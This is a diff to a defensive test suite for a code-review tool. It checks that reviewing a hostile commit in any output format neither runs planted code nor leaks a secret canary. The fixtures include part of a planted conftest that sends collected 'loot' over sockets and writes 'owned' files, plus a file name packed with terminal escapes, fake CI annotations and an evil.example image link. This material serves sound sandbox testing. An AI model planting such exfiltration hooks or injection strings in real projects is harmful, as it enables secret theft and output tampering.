@@ -21,6 +21,17 @@ HOME_CANARY = "homecanary-90d1b7"
 FORMATS = ("text", "json", "markdown", "sarif", "html", "rdjson")
 STRANGE = "src/\x1b[31mred\n::error file=x::owned @everyone ![x](http://evil.example/p.png) <img src=x>.py"
 
+ALL_FORMATS = """
+import sys
+from pathlib import Path
+from reviewbot import review
+from reviewbot.publish import formats
+
+made = review("HEAD")
+for kind in sys.argv[2:]:
+    Path(sys.argv[1], kind).write_text(formats.render(kind, made, formats.Rendering(verbose=True)), "utf-8")
+"""
+
 CONFTEST = """
 import glob, itertools, os, pathlib, socket
 
@@ -46,7 +57,7 @@ for port in ({port}, 53, 80):
             wire.sendall(LOOT.encode())
     except OSError:
         pass
-for place in ({trap!r}, {home!r} + "/written", "/tmp/reviewbot-was-here"):
+for place in ({trap!r}, {home!r} + "/written"):
     try:
         pathlib.Path(place).write_text("owned")
     except OSError:
@@ -139,6 +150,11 @@ def hostile(git_repo: Repo, tmp_path: Path, listener: tuple[int, list[bytes]]) -
 
 
 def review(repo: Repo, *words: str) -> subprocess.CompletedProcess[bytes]:
+    return run(repo, sys.executable, "-m", "reviewbot.cli", "review", *words)
+
+
+def run(repo: Repo, *command: str) -> subprocess.CompletedProcess[bytes]:
+    """A process with a secret in its environment."""
     environment = {
         "PATH": os.environ["PATH"],
         "HOME": str(repo.home),
@@ -147,8 +163,14 @@ def review(repo: Repo, *words: str) -> subprocess.CompletedProcess[bytes]:
         "SECRET_TOKEN": CANARY,
         "GITHUB_ACTIONS": "true",
     }
-    command = (sys.executable, "-m", "reviewbot.cli", "review", *words)
     return subprocess.run(command, cwd=repo.path, env=environment, capture_output=True, check=False, timeout=180)
+
+
+def untouched(repo: Repo, folder: Path, listener: tuple[int, list[bytes]]) -> None:
+    """No trap was sprung, no file was written, nobody called."""
+    assert not (folder / "executed").exists()
+    assert not (repo.home / "written").exists()
+    assert listener[1] == []
 
 
 def leaks(output: bytes) -> list[str]:
@@ -161,27 +183,36 @@ def leaks(output: bytes) -> list[str]:
 
 @pytest.mark.slow
 @pytest.mark.usefixtures("bubblewrap")
-@pytest.mark.parametrize("kind", FORMATS)
 def test_a_hostile_commit_is_reviewed_without_executing_or_leaking_anything(
-    kind: str, hostile: Repo, tmp_path: Path, listener: tuple[int, list[bytes]]
+    hostile: Repo, tmp_path: Path, listener: tuple[int, list[bytes]]
 ) -> None:
-    done = review(hostile, "HEAD", "--format", kind, "-v")
+    done = review(hostile, "HEAD", "-v")
     assert done.returncode in (0, 3), done.stderr
     assert leaks(done.stdout) == []
     assert leaks(done.stderr) == []
     assert b"Traceback" not in done.stderr
-    assert not (tmp_path / "executed").exists()
-    assert not (hostile.home / "written").exists()
-    assert not Path("/tmp/reviewbot-was-here").exists()
-    assert listener[1] == []
-    told = done.stdout.decode()
-    assert "src/app.py" in told
-    assert "S307" in told or "eval" in told
+    untouched(hostile, tmp_path, listener)
+    assert "src/app.py:3" in done.stdout.decode()
 
 
 @pytest.mark.slow
 @pytest.mark.usefixtures("bubblewrap")
-@pytest.mark.parametrize("words", [("--worktree",), ("--staged",), (), ("--no-exec",), ("--sandbox", "none")])
+def test_no_format_of_its_review_leaks_anything(hostile: Repo, tmp_path: Path, listener: tuple[int, list[bytes]]) -> None:
+    reports = tmp_path / "reports"
+    reports.mkdir()
+    done = run(hostile, sys.executable, "-c", ALL_FORMATS, str(reports), *FORMATS)
+    assert done.returncode == 0, done.stderr
+    untouched(hostile, tmp_path, listener)
+    for kind in FORMATS:
+        report = (reports / kind).read_bytes()
+        assert leaks(report) == [], kind
+        assert b"src/app.py" in report, kind
+        assert b"eval" in report, kind
+
+
+@pytest.mark.slow
+@pytest.mark.usefixtures("bubblewrap")
+@pytest.mark.parametrize("words", [("--worktree",), ("--staged",), ("--sandbox", "none")])
 def test_uncommitted_work_under_a_hostile_configuration_runs_nothing(
     words: tuple[str, ...], hostile: Repo, tmp_path: Path, listener: tuple[int, list[bytes]]
 ) -> None:
@@ -191,8 +222,7 @@ def test_uncommitted_work_under_a_hostile_configuration_runs_nothing(
     done = review(hostile, *words, "--format", "json")
     assert done.returncode in (0, 3), done.stderr
     assert leaks(done.stdout + done.stderr) == []
-    assert not (tmp_path / "executed").exists()
-    assert listener[1] == []
+    untouched(hostile, tmp_path, listener)
     assert (hostile.path / ".git" / "index").read_bytes() == before
 
 
@@ -202,6 +232,4 @@ def test_the_hunt_finds_the_canary_where_there_is_no_wall(hostile: Repo, listene
     done = review(hostile, "HEAD", "--sandbox", "unconfined", "--format", "json")
     assert done.returncode in (0, 3), done.stderr
     assert listener[1] != []
-    assert Path("/tmp/reviewbot-was-here").exists()
-    Path("/tmp/reviewbot-was-here").unlink()
-    (hostile.home / "written").unlink()
+    assert (hostile.home / "written").exists()
